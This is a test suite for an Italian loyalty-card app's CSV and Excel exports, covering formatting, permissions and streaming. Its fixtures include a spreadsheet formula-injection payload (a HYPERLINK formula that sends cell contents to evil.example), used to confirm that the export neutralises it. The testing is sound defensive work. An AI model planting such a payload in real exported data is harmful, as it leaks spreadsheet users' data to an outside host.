/**
 * The admin's CSV exports of a shop's cards and ledger (docs/decisions/043-csv-export.md): the
 * bytes (BOM, `;`, CRLF, RFC 4180 quoting), Italian headers, dates and decimals, formula injection
 * neutralised while numbers stay numbers, who may download, and a 5 000-card export streamed over real
 * HTTP (time and memory printed, never asserted).
 */
import { parse } from 'csv-parse/sync';
import { authHeader, createUser, demoAccount, startTestApp, type TestApp } from './helpers/app';
import { describeEachDatabase } from './helpers/databases';
import { CLIENT, createClientWithCard, createOtherAdmin, OTHER_ADMIN, OTHER_BUSINESS_ID } from './helpers/fixtures';
import { DEMO_BUSINESSES } from '../src/seed/demo';
import { csvWriter } from '../src/features/import-export/csv-export';
import ExcelJS from 'exceljs';

const BAR = DEMO_BUSINESSES[0].id;
const NOW = new Date('2026-03-10T12:00:00Z');
const SHOP = OTHER_BUSINESS_ID; // 'Libreria Altrove', owned by OTHER_ADMIN
const BOM = '\uFEFF';

const CARD_HEADER =
  'Numero carta;Nome;Email;Telefono;Punti;Punti in scadenza entro 30 giorni;Data di nascita;Creata il;' +
  'Consenso marketing WhatsApp;Consenso marketing SMS;Consenso marketing email';
const LEDGER_HEADER = 'Data;Numero carta;Cliente;Tipo;Punti;Importo (€);Premio;Descrizione;Operatore';

/** A response's bytes as exceljs's `load` types them (its typings predate Node's generic Buffer). */
const xlsxBytes = (bytes: Buffer) => bytes as unknown as Parameters<ExcelJS.Xlsx['load']>[0];

/** The records of a file as a spreadsheet reads them (csv-parse, RFC 4180), header first. */
const records = (body: string): string[][] => parse(body, { delimiter: ';', bom: true, record_delimiter: '\r\n', relax_column_count: false });

test('a cell with a lone line feed or carriage return is quoted, so a spreadsheet keeps it in its row', async () => {
  const writer = csvWriter(['Descrizione', 'Punti']);
  const chunks: Buffer[] = [];
  writer.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise((resolve) => writer.on('end', resolve));
  writer.write(['riga uno\nriga due', 5]);
  writer.write(['a\rb', 1]);
  writer.end();
  await done;
  const body = Buffer.concat(chunks).toString('utf8');
  expect(body).toBe(`${BOM}Descrizione;Punti\r\n"riga uno\nriga due";5\r\n"a\rb";1\r\n`);
  expect(records(body)).toEqual([['Descrizione', 'Punti'], ['riga uno\nriga due', '5'], ['a\rb', '1']]);
});

describeEachDatabase('CSV export of cards and ledger', (variant) => {
  let t: TestApp;
  let owner: { authorization: string };
  let demoAdmin: { authorization: string };
  let superAdmin: { authorization: string };
  let client: { authorization: string };

  beforeAll(async () => {
    t = await startTestApp(variant, { seedDemo: true, messaging: { worker: { enabled: false } } }, { clock: () => NOW });
    const shopAdmin = await createOtherAdmin(t.app);
    await createClientWithCard(t.app, BAR);
    owner = await authHeader(t.app, OTHER_ADMIN.email, OTHER_ADMIN.password);
    demoAdmin = await authHeader(t.app, demoAccount('admin').email, demoAccount('admin').password);
    superAdmin = await authHeader(t.app, demoAccount('super_admin').email, demoAccount('super_admin').password);
    client = await authHeader(t.app, CLIENT.email, CLIENT.password);
    const staff = await createUser(t.app, { email: 'cassa@test.it', role: 'admin', full_name: '@Cassa; "uno"' });

    // Points expire after a month since 2020: the lots of March 2026 expire within 30 days of NOW.
    await t.app.db.query(`UPDATE businesses SET expiry_months = 1, expiry_since = '2020-01-01' WHERE id = $1`, [SHOP]);
    await t.app.db.query(
      `INSERT INTO loyalty_cards (id, business_id, card_number, customer_name, customer_phone, email, birth_date, points, marketing_channels, created_at) VALUES
         ('k1', $1, 'LC-00000001', '=HYPERLINK("http://evil.example/?"&A1;"Clicca")', '+393331234567', '@mario@example.it', '1990-05-17', 14, '{whatsapp,email}', '2026-01-15 09:30:00+00'),
         ('k2', $1, 'LC-00000002', E'Rossi; "Mario"\\nsecondo rigo', NULL, NULL, NULL, 7.25, '{}', '2026-02-01 23:15:00+00'),
         ('k3', $1, 'LC-00000003', E'\\tTab', '+41 44 123 45 67', 'x@y.it', '2000-12-31', 0, '{sms}', '2026-02-01 23:15:00+00'),
         ('k4', $1, 'LC-00000004', '-2+3', NULL, NULL, NULL, 0, '{whatsapp,sms,email}', '2026-03-01 08:00:00+00')`,
      [SHOP],
    );
    await t.app.db.query(
      `INSERT INTO points_ledger (id, card_id, points, kind, description, author_id, reward_name, lot_id, once_key, created_at) VALUES
         (900001, 'k1', 20, 'credit', 'Spesa', $1, NULL, NULL, NULL, '2026-02-28 09:00:00+00'),
         (900002, 'k1', 4, 'birthday', 'Buon compleanno', NULL, NULL, NULL, 'birthday:k1:2026', '2026-03-05 23:30:00+00'),
         (900003, 'k1', -5, 'adjustment', '=1+1', $2, NULL, NULL, NULL, '2026-03-06 10:00:00+00'),
         (900004, 'k1', -3, 'redemption', 'Premio', $1, 'Caffè "doppio"', NULL, NULL, '2026-03-07 10:00:00+00'),
         (900005, 'k1', -2, 'expiry', 'Punti scaduti', NULL, NULL, 900001, NULL, '2026-03-08 10:00:00+00'),
         (900006, 'k2', 7.25, 'credit', '+ bonus', $1, NULL, NULL, NULL, '2026-03-08 10:00:00+00')`,
      [shopAdmin.id, staff.id],
    );
    // A sale (decision 075), under the shop's minimum spend (no points, so no balance changes): its amount in «Importo (€)».
    await t.app.db.query(
      `INSERT INTO points_ledger (id, card_id, points, kind, description, author_id, amount_cents, earning, created_at)
       VALUES (900007, 'k2', 0, 'credit', 'Vendita di 23,50 €', $1, 2350, '{}', '2026-03-09 10:00:00+00')`,
      [shopAdmin.id],
    );
  });
  afterAll(() => t.close());

  const get = (url: string, headers: Record<string, string>) => t.app.inject({ method: 'GET', url, headers });

  it('exports the cards: BOM, `;`, CRLF, Italian headers, dates and decimals, consent per channel, formulas neutralised', async () => {
    const response = await get(`/api/loyalty-cards/business/${SHOP}/export.csv`, owner);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="carte-libreria-altrove-2026-03-10.csv"');
    expect(response.headers['cache-control']).toBe('no-store');

    const raw = response.rawPayload;
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const body = raw.toString('utf8');
    expect(body.startsWith(`${BOM}${CARD_HEADER}\r\n`)).toBe(true);
    expect(body.endsWith('\r\n')).toBe(true);
    // Every line break ends a record or sits inside a quoted cell (k2's name): no bare LF elsewhere.
    expect(body.replace(/\r\n/g, '').replace('\nsecondo', '')).not.toMatch(/[\r\n]/);

    expect(records(body)).toEqual([
      CARD_HEADER.split(';'),
      // Newest first. Balance 14; lots: 20 (left 10) and 4, both expiring before 9 April: 14.
      ['LC-00000004', "'-2+3", '', '', '0', '0', '', '01/03/2026 09:00:00', 'sì', 'sì', 'sì'],
      // Same instant: by id. 00:15 in Rome is the next day.
      ['LC-00000002', 'Rossi; "Mario"\nsecondo rigo', '', '', '7,25', '7,25', '', '02/02/2026 00:15:00', 'no', 'no', 'no'],
      ['LC-00000003', "'\tTab", 'x@y.it', "'+41 44 123 45 67", '0', '0', '31/12/2000', '02/02/2026 00:15:00', 'no', 'sì', 'no'],
      [
        'LC-00000001',
        `'=HYPERLINK("http://evil.example/?"&A1;"Clicca")`,
        "'@mario@example.it",
        "'+393331234567",
        '14',
        '14',
        '17/05/1990',
        '15/01/2026 10:30:00',
        'sì',
        'no',
        'sì',
      ],
    ]);
    // RFC 4180 on the wire: a cell with `;`, `"` or a line break is quoted, its quotes doubled.
    expect(body).toContain(`;"Rossi; ""Mario""\nsecondo rigo";`);
    expect(body).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1;""Clicca"")";`);
  });

  it('exports the ledger oldest first with the Italian kinds; negative points stay numbers, text formulas are neutralised', async () => {
    const response = await get(`/api/loyalty-cards/business/${SHOP}/ledger.csv`, superAdmin);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toBe('attachment; filename="movimenti-libreria-altrove-2026-03-10.csv"');
    expect(response.headers['cache-control']).toBe('no-store');
    const body = response.rawPayload.toString('utf8');
    expect(body.startsWith(`${BOM}${LEDGER_HEADER}\r\n`)).toBe(true);
    const rows = records(body);
    expect(rows).toEqual([
      LEDGER_HEADER.split(';'),
      ['28/02/2026 10:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'accredito', '20', '', '', 'Spesa', 'Altro Admin'],
      ['06/03/2026 00:30:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'bonus compleanno', '4', '', '', 'Buon compleanno', ''],
      ['06/03/2026 11:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'rettifica', '-5', '', '', "'=1+1", '\'@Cassa; "uno"'],
      ['07/03/2026 11:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'riscatto', '-3', '', 'Caffè "doppio"', 'Premio', 'Altro Admin'],
      ['08/03/2026 11:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'scadenza', '-2', '', '', 'Punti scaduti', ''],
      ['08/03/2026 11:00:00', 'LC-00000002', 'Rossi; "Mario"\nsecondo rigo', 'accredito', '7,25', '', '', "'+ bonus", 'Altro Admin'],
      ['09/03/2026 11:00:00', 'LC-00000002', 'Rossi; "Mario"\nsecondo rigo', 'accredito', '0', '23,5', '', 'Vendita di 23,50 €', 'Altro Admin'],
    ]);
    // A negative number is written bare (a number for Excel), never behind a quote mark.
    expect(body).toContain(';rettifica;-5;;;');
  });

  it('exports the cards and the ledger as Excel files with typed cells, read back by exceljs: text stays text, numbers numbers, dates dates', async () => {
    // Values a spreadsheet would turn into a number or a date: as text cells they stay as they are.
    await t.app.db.query(
      `INSERT INTO loyalty_cards (id, business_id, card_number, customer_name, customer_phone, email, birth_date, points, created_at)
       VALUES ('k5', $1, 'LC-00000005', '3,14', '0012345', '1/2@example.it', '1980-02-29', 1234.5, '2026-03-02 08:00:00+00')`,
      [SHOP],
    );
    try {
      const response = await get(`/api/loyalty-cards/business/${SHOP}/export.xlsx`, owner);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(response.headers['content-disposition']).toBe('attachment; filename="carte-libreria-altrove-2026-03-10.xlsx"');
      expect(response.headers['cache-control']).toBe('no-store');
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(xlsxBytes(response.rawPayload));
      const sheet = workbook.worksheets[0];
      expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(CARD_HEADER.split(';'));
      const byNumber = new Map<string, ExcelJS.Row>();
      sheet.eachRow((row, n) => n > 1 && byNumber.set(String(row.getCell(1).value), row));
      expect(byNumber.size).toBe(5);
      const k5 = byNumber.get('LC-00000005')!;
      const cell = (row: ExcelJS.Row, n: number) => [row.getCell(n).type, row.getCell(n).value];
      const { String: text, Number: number, Date: date, Null: none } = ExcelJS.ValueType;
      expect([1, 2, 3, 4, 5, 6, 7, 8, 9].map((n) => cell(k5, n))).toEqual([
        [text, 'LC-00000005'],
        [text, '3,14'],
        [text, '1/2@example.it'],
        [text, '0012345'],
        [number, 1234.5],
        [number, 0],
        [date, new Date('1980-02-29T00:00:00Z')],
        [date, new Date('2026-03-02T09:00:00Z')], // 09:00 in Rome, as the CSV says it
        [text, 'no'],
      ]);
      // Text columns are formatted as text, so a cell edited in the spreadsheet stays text; no apostrophe anywhere.
      expect(k5.getCell(4).numFmt).toBe('@');
      expect(k5.getCell(7).numFmt).toBe('dd/mm/yyyy');
      // A formula in a name is a text cell (never a formula cell), written as it is: nothing to neutralise.
      const k1 = byNumber.get('LC-00000001')!;
      expect(cell(k1, 2)).toEqual([text, '=HYPERLINK("http://evil.example/?"&A1;"Clicca")']);
      expect(cell(k1, 4)).toEqual([text, '+393331234567']);
      expect(cell(byNumber.get('LC-00000004')!, 2)).toEqual([text, '-2+3']);
      expect(cell(byNumber.get('LC-00000002')!, 7)).toEqual([none, null]);
      const texts: string[] = [];
      sheet.eachRow((row) => row.eachCell((c) => c.type === text && texts.push(String(c.value))));
      expect(texts.filter((v) => v.startsWith("'"))).toEqual([]);

      const ledger = await get(`/api/loyalty-cards/business/${SHOP}/ledger.xlsx`, superAdmin);
      expect(ledger.statusCode).toBe(200);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(xlsxBytes(ledger.rawPayload));
      const rows = book.worksheets[0].getSheetValues().slice(2) as unknown[][];
      // Data, Tipo, Punti, Importo (€) (a number, only on the sale: decision 075), Descrizione.
      expect(rows.map((r) => [r[1], r[4], r[5], r[6] ?? null, r[8]])).toEqual([
        [new Date('2026-02-28T10:00:00Z'), 'accredito', 20, null, 'Spesa'],
        [new Date('2026-03-06T00:30:00Z'), 'bonus compleanno', 4, null, 'Buon compleanno'],
        [new Date('2026-03-06T11:00:00Z'), 'rettifica', -5, null, '=1+1'],
        [new Date('2026-03-07T11:00:00Z'), 'riscatto', -3, null, 'Premio'],
        [new Date('2026-03-08T11:00:00Z'), 'scadenza', -2, null, 'Punti scaduti'],
        [new Date('2026-03-08T11:00:00Z'), 'accredito', 7.25, null, '+ bonus'],
        [new Date('2026-03-09T11:00:00Z'), 'accredito', 0, 23.5, 'Vendita di 23,50 €'],
      ]);
    } finally {
      await t.app.db.query(`DELETE FROM loyalty_cards WHERE id = 'k5'`);
    }
  });

  it('lets only the admin of the shop and the super admin download; another shop, a client, nobody: refused, nothing in the body', async () => {
    for (const file of ['export.csv', 'ledger.csv']) {
      const url = `/api/loyalty-cards/business/${SHOP}/${file}`;
      const other = await get(url, demoAdmin);
      expect([other.statusCode, other.json()]).toEqual([404, { error: 'Azienda non trovata' }]);
      expect(other.headers['content-disposition']).toBeUndefined();
      expect((await get(url, client)).statusCode).toBe(403);
      expect((await get(url, {})).statusCode).toBe(401);
      expect((await get(`/api/loyalty-cards/business/non-esiste/${file}`, superAdmin)).statusCode).toBe(404);
      expect((await get(url, superAdmin)).statusCode).toBe(200);
    }
  });

  it('exports a shop without cards as the header alone', async () => {
    await t.app.db.query(`INSERT INTO businesses (id, name, owner_id) SELECT 'vuoto', 'Caffè Ré & C.', owner_id FROM businesses WHERE id = $1`, [SHOP]);
    const cards = await get('/api/loyalty-cards/business/vuoto/export.csv', owner);
    expect(cards.headers['content-disposition']).toBe('attachment; filename="carte-caffe-re-c-2026-03-10.csv"');
    expect(cards.rawPayload.toString('utf8')).toBe(`${BOM}${CARD_HEADER}\r\n`);
    const ledger = await get('/api/loyalty-cards/business/vuoto/ledger.csv', owner);
    expect(ledger.rawPayload.toString('utf8')).toBe(`${BOM}${LEDGER_HEADER}\r\n`);
  });

  // Five batches of 1 000 (EXPORT_BATCH_SIZE), each boundary inside a group of cards sharing one instant.
  it('streams 5 000 cards and their ledger over HTTP in batches, every row once', async () => {
    const n = 5_000;
    await t.app.db.query(`INSERT INTO businesses (id, name, owner_id) SELECT 'grande', 'Grande Magazzino', owner_id FROM businesses WHERE id = $1`, [SHOP]);
    // Many cards share one instant, so the keyset's tie-break on the id is exercised across batches.
    await t.app.db.query(
      `INSERT INTO loyalty_cards (id, business_id, card_number, customer_name, customer_phone, points, created_at)
       SELECT 'g' || i, 'grande', 'LC-' || lpad(i::text, 8, '0'), 'Cliente ' || i, '+39333' || lpad(i::text, 7, '0'), i % 500,
              timestamptz '2026-01-01 00:00:00+00' + ((i / 7) * interval '1 second')
         FROM generate_series(1, $1::int) AS i`,
      [n],
    );
    await t.app.db.query(
      `INSERT INTO points_ledger (card_id, points, kind, description, created_at)
       SELECT 'g' || i, 1 + i % 500, 'credit', 'Spesa', timestamptz '2026-01-02 00:00:00+00' + ((i / 3) * interval '1 second')
         FROM generate_series(1, $1::int) AS i`,
      [n],
    );
    // Another shop's cards and ledger rows, interleaved in time with the big shop's: none may come out.
    await t.app.db.query(`INSERT INTO businesses (id, name, owner_id) SELECT 'altro', 'Altro', owner_id FROM businesses WHERE id = $1`, [SHOP]);
    await t.app.db.query(
      `INSERT INTO loyalty_cards (id, business_id, card_number, customer_name, created_at)
       SELECT 'a' || i, 'altro', 'ALTRO-' || i, 'Altro cliente', timestamptz '2026-01-01 00:00:00+00' + ((i / 5) * interval '1 second')
         FROM generate_series(1, 5000) AS i`,
    );
    await t.app.db.query(
      `INSERT INTO points_ledger (card_id, points, kind, description, created_at)
       SELECT 'a' || i, 1, 'credit', 'Altro', timestamptz '2026-01-02 00:00:00+00' + ((i / 2) * interval '1 second') FROM generate_series(1, 5000) AS i`,
    );
    // No ANALYZE: right after a bulk insert (an import) the planner has no statistics, and the batches must still
    // walk the indexes (decision 043).
    const address = await t.app.listen({ port: 0, host: '127.0.0.1' });
    for (const [file, expectedRows] of [
      ['export.csv', n],
      ['ledger.csv', n],
    ] as const) {
      global.gc?.();
      const rssBefore = process.memoryUsage().rss;
      let peak = rssBefore;
      const started = performance.now();
      const response = await fetch(`${address}/api/loyalty-cards/business/grande/${file}`, { headers: owner });
      expect(response.status).toBe(200);
      // Counted as the bytes arrive, never held whole; the numbers must come once each.
      const decoder = new TextDecoder();
      let lines = 0;
      let rest = '';
      let chunks = 0;
      const seen = new Set<string>();
      for await (const chunk of response.body!) {
        chunks += 1;
        const text = rest + decoder.decode(chunk, { stream: true });
        const parts = text.split('\r\n');
        rest = parts.pop()!;
        for (const line of parts) {
          lines += 1;
          if (lines > 1) seen.add(line.split(';')[file === 'export.csv' ? 0 : 1]);
        }
        peak = Math.max(peak, process.memoryUsage().rss);
      }
      const ms = performance.now() - started;
      expect(rest).toBe('');
      expect(lines).toBe(expectedRows + 1);
      expect(seen.size).toBe(expectedRows);
      console.log(
        `[${variant.name}] ${file}: ${expectedRows} rows in ${ms.toFixed(0)} ms, ${chunks} chunks, peak RSS growth ${((peak - rssBefore) / 1024 / 1024).toFixed(1)} MB`,
      );
    }
  }, 120_000);
});
